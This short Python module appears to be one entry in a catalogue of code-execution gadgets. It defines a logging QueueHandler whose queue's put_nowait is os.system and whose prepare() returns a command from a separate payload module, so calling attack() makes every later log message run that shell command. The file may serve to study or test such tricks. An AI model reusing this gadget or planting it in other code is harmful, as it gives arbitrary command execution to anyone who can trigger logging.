"""A handler's queue takes records with a function of C."""
CATEGORY = "callable"
REACH = "run"

import logging.handlers
import os

from . import payload


class Handler(logging.handlers.QueueHandler):

    def prepare(self, record):
        return payload.COMMAND


class Queue:
    put_nowait = os.system


def attack():
    logging.getLogger().addHandler(Handler(Queue))
